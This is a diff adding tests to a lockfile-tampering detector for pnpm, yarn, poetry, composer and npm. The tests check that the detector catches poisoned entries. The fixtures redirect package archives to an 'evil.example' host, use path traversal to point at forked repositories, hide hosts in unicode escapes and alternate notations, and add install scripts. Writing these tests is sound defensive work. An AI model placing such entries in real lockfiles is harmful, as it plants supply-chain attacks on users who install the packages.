@@ -3,6 +3,7 @@ import { wantedFiles } from '../../../src/analysis/worker/gates.ts';
 import { parseDiff } from '../../../src/diff/parse.ts';
 import { readGemfileLock } from '../../../src/gates/dependencies/bundler.ts';
 import { inspectDependencies } from '../../../src/gates/dependencies/inspect.ts';
+import type { Severity } from '../../../src/model/finding.ts';
 import { findingsOf, gateTools } from '../../analysis/worker/gates-run.ts';
 import { cpuOf, diffOf, inChange, inHunk, inNewFile } from '../configuration/run.ts';
 import { newFile } from '../patterns/scan-text.ts';
@@ -408,6 +409,8 @@ for (const { title, path, text, edits, expected, ...more } of ATTACKS) {
 const UNEXPLAINED = ['risk-lock-unexplained'];
 const FOREIGN = ['risk-lock-foreign-source'];
 const UNREAD = ['lockfile-unread'];
+/** The reader ends there. */
+const REFUSED = [...UNREAD];
 const REMOTE = '  remote: https://rubygems.org/\n';
 const PYPI = 'source = { registry = "https://pypi.org/simple" }';
 const COMMIT = '1'.repeat(40);
@@ -445,6 +448,39 @@ const FORMS: Readonly<
   >
 > = {
   'pnpm-lock.yaml': [
+    // Notations that pnpm reads as well, each with another archive in it.
+    ...[
+      `resolution: {integrity: ${SHA512('a')}, tarball : https://evil.example/a.tgz}`,
+      `resolution: {integrity: ${SHA512('a')}, tarball:  https://evil.example/a.tgz}`,
+      `resolution: {integrity: ${SHA512('a')}, x: ' tarball: b', integrity: ${SHA512('x')}}`,
+      `resolution: {integrity: ${SHA512('x')}} # {integrity: ${SHA512('a')}}`,
+      `resolution : {integrity: ${SHA512('x')}}`,
+      `&a resolution: {integrity: ${SHA512('x')}}`,
+      `  resolution: {integrity: ${SHA512('x')}}`,
+    ].map(
+      (line) =>
+        [texts.PNPM_9, [[`resolution: {integrity: ${SHA512('a')}}`, line]], REFUSED] as const,
+    ),
+    [
+      texts.PNPM_9,
+      [
+        [
+          `    resolution: {integrity: ${SHA512('a')}}`,
+          `    resolution:\n      integrity: ${SHA512('a')}\n      tarball: https://evil.example/a.tgz`,
+        ],
+      ],
+      MOVED,
+    ],
+    [
+      texts.PNPM_9,
+      [
+        [
+          `  acme-tool@2.1.0:\n    resolution: {integrity: ${SHA512('a')}}`,
+          `  ? acme-tool@2.1.0\n  : resolution: {integrity: ${SHA512('a')}, tarball: https://evil.example/a.tgz}`,
+        ],
+      ],
+      MOVED,
+    ],
     ...['link:../../evil', 'link:/evil', 'file:evil.tgz', 'https://evil.example/a.tgz'].map(
       (address) => [texts.PNPM_9, [['version: 2.1.0', `version: ${address}`]], MOVED, []] as const,
     ),
@@ -530,6 +566,27 @@ const FORMS: Readonly<
     ],
   ],
   'yarn.lock': [
+    [
+      texts.YARN_1,
+      [['registry.yarnpkg.com/acme', 'registry.yarnpkg.com\\u002eevil.example/acme']],
+      MOVED,
+    ],
+    ...[
+      `version "2.1.0" resolved "https://evil.example/a.tgz"`,
+      `version :"2.1.0"`,
+      `version "2.1.0"\n  version "2.1.0"`,
+      `  version "2.1.0"`,
+    ].map((line) => [texts.YARN_1, [['version "2.1.0"', line]], REFUSED] as const),
+    [
+      texts.YARN_4,
+      [
+        [
+          '"acme-tool@npm:2.1.0"',
+          '"acme-tool\\u0040npm:2.1.0::__archiveUrl=https%3A%2F%2Fevil.example%2Fa.tgz"',
+        ],
+      ],
+      MOVED,
+    ],
     [
       texts.YARN_4,
       [
@@ -753,6 +810,29 @@ const FORMS: Readonly<
     [texts.UV, newPython('source = { path = "../evil/more.whl" }'), FOREIGN],
   ],
   'poetry.lock': [
+    // One more archive, in notations that poetry reads as well.
+    ...[
+      `{file="acme_core-1.4.0.zip", hash="sha256:${'f'.repeat(64)}"}`,
+      `{"file" = "acme_core-1.4.0.zip", "hash" = "sha256:${'f'.repeat(64)}"}`,
+    ].map(
+      (table) => [texts.POETRY, [['files = [\n', `files = [\n    ${table},\n`]], REFUSED] as const,
+    ),
+    [
+      texts.POETRY,
+      [['"},\n    {file', `"}, {file = "b.zip", hash = "sha256:${'f'.repeat(64)}"},\n    {file`]],
+      REFUSED,
+    ],
+    [
+      texts.POETRY,
+      [
+        ['c'.repeat(64), 'f'.repeat(64)],
+        [
+          '[package.extras]\n',
+          `[package.extras]\nfiles = [\n    {file = "acme_core-1.4.0.tar.gz", hash = "sha256:${'c'.repeat(64)}"},\n]\n`,
+        ],
+      ],
+      CHANGED,
+    ],
     [
       texts.POETRY,
       [
@@ -858,6 +938,9 @@ const FORMS: Readonly<
     ],
   ],
   'composer.lock': [
+    // A commit of any fork is served under the address of the repository.
+    [texts.COMPOSER, [[`zipball/${'1'.repeat(40)}`, `zipball/${'6'.repeat(40)}`]], MISMATCH, []],
+    [texts.COMPOSER, [['repos/acme/core/zipball', 'repos/acme/../evil/zipball']], MOVED],
     [
       texts.COMPOSER,
       [
@@ -1030,6 +1113,12 @@ test('each form of attack is found, in both versions and in a hunk', async (t) =
       const after = edits.reduce((now, [from, to]) => now.replace(from, to), text);
       t.not(after, text);
       const label = `${path} (${index}):`;
+      if (expected === REFUSED) {
+        // What stands below the line is not read.
+        t.true(idsOf(await inChange(path, text, after)).includes('lockfile-unread'), label);
+        t.true(idsOf(await inHunk(path, text, after)).includes('lockfile-unread'), label);
+        continue;
+      }
       t.deepEqual(idsOf(await inChange(path, text, after)), [...expected], `${label} whole`);
       t.deepEqual(idsOf(await inHunk(path, text, after)), [...inPart], `${label} hunk`);
     }
@@ -1163,6 +1252,133 @@ for (const { title, path, text, edits } of HARMLESS) {
     t.deepEqual(idsOf(await inHunk(path, text, after)), [], 'hunk');
   });
 }
+
+/** Rules that make a finding less grave: of each a harmless example, and an attack beside it. */
+const LESSER: readonly (readonly [
+  path: string,
+  text: string,
+  edits: Attack['edits'],
+  id: string,
+  severity: Severity | null,
+])[] = [
+  // The same archive over TLS; another archive.
+  ...(
+    [
+      [[], 'risk-lock-source-changed', 'medium'],
+      [[[SHA512('a'), SHA512('x')] as const], 'risk-lock-integrity-changed', 'critical'],
+    ] as const
+  ).map(
+    ([edits, id, severity]) =>
+      [
+        'yarn.lock',
+        texts.YARN_1.replace(
+          'https://registry.yarnpkg.com/acme',
+          'http://registry.yarnpkg.com/acme',
+        ),
+        [['http://registry.yarnpkg.com/acme', 'https://registry.yarnpkg.com/acme'], ...edits],
+        id,
+        severity,
+      ] as const,
+  ),
+  // The same commit elsewhere, another commit there, the same owner, a name like it, and a path
+  // to another one. Below: an account with the name of the package.
+  ...(
+    [
+      [/acme\/core(?=\.git|\/zip)/g, 'evil/core', '1', 'medium'],
+      [/acme\/core(?=\.git|\/zip)/g, 'evil/core', '6', 'high'],
+      [/acme\/core(?=\.git|\/zip)/g, 'acme/more', '6', 'medium'],
+      [/acme\/core(?=\.git|\/zip)/g, 'acme-/core', '6', 'high'],
+      [/acme\/core(?=\.git|\/zip)/g, 'acme/../evil/core', '6', 'high'],
+    ] as const
+  ).map(
+    ([from, to, commit, severity]) =>
+      [
+        'composer.lock',
+        texts.COMPOSER,
+        [
+          [from, to],
+          [/1{40}/g, commit.repeat(40)],
+        ],
+        'risk-lock-source-changed',
+        severity,
+      ] as const,
+  ),
+  [
+    'composer.lock',
+    texts.COMPOSER.replace(/acme\/core(?=\.git|\/zip)/g, 'acme-inc/core'),
+    [
+      [/acme-inc/g, 'acme'],
+      [/1{40}/g, '6'.repeat(40)],
+    ],
+    'risk-lock-source-changed',
+    'high',
+  ],
+  // npm 6 said no scripts: of a version that was there, and of a new package.
+  ...(
+    [
+      ['acme-tool', '2.1.0', null],
+      ['evil-one', '1.0.0', 'high'],
+    ] as const
+  ).map(
+    ([name, version, severity]) =>
+      [
+        'package-lock.json',
+        texts.NPM_1,
+        [
+          [
+            texts.NPM_1,
+            JSON.stringify(
+              {
+                lockfileVersion: 3,
+                packages: {
+                  '': { dependencies: { [name]: '*' } },
+                  [`node_modules/${name}`]: { version, hasInstallScript: true },
+                },
+              },
+              null,
+              2,
+            ),
+          ],
+        ],
+        'risk-lock-install-script',
+        severity,
+      ] as const,
+  ),
+];
+
+test('what makes a finding less grave does not do so for an attack like it', async (t) => {
+  for (const [index, [path, text, edits, id, severity]] of LESSER.entries()) {
+    const after = edits.reduce((now, [from, to]) => now.replace(from, to), text);
+    t.not(after, text);
+    const found = (await inChange(path, text, after)).find((one) => one.id === id);
+    t.is(found?.severity ?? null, severity, `${path} (${index})`);
+  }
+});
+
+test('a manifest explains a package in place of another one where it asks for that', async (t) => {
+  const path = 'pnpm-lock.yaml';
+  const after = texts.PNPM_9.replace('version: 2.1.0', 'version: evil-one@1.0.0');
+  for (const [manifest, expected] of [
+    ['{"dependencies": {"acme-tool": "npm:evil-one@^1.0.0"}}', false],
+    ['{"dependencies": {"acme-tool": "^2.0.0"}, "keywords": ["evil-one"]}', true],
+    ['{"dependencies": {"acme-tool": "^2.0.0", "evil-one": "^1.0.0"}}', true],
+  ] as const) {
+    const bytes = Buffer.from(
+      diffOf(path, texts.PNPM_9, after, 0) + diffOf('package.json', '{}\n', `${manifest}\n`, 0),
+    );
+    const trees = [
+      { side: 'base', path, state: 'read', bytes: Buffer.from(texts.PNPM_9) },
+      { side: 'head', path, state: 'read', bytes: Buffer.from(after) },
+    ] as const;
+    const input = { bytes, files: parseDiff(bytes).files, ...ALONE, trees };
+    const { findings } = await inspectDependencies(input);
+    t.is(
+      findings.some(({ id }) => id === 'risk-lock-name-mismatch'),
+      expected,
+      manifest,
+    );
+  }
+});
 
 test('a manifest names a source by its whole address', async (t) => {
   const severityOf = async (
